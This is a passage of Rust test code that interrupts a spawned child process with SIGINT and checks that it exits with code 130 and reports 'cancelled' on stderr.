    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(i32::try_from(child.id()).unwrap()),
        nix::sys::signal::Signal::SIGINT,
    )
    .unwrap();
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stderr, &mut rest).unwrap();
    let status = child.wait().unwrap();
    assert_eq!(status.code(), Some(130), "{status:?}: {first}{rest}");
    assert!(rest.contains("cancelled"), "{first}{rest}");
}
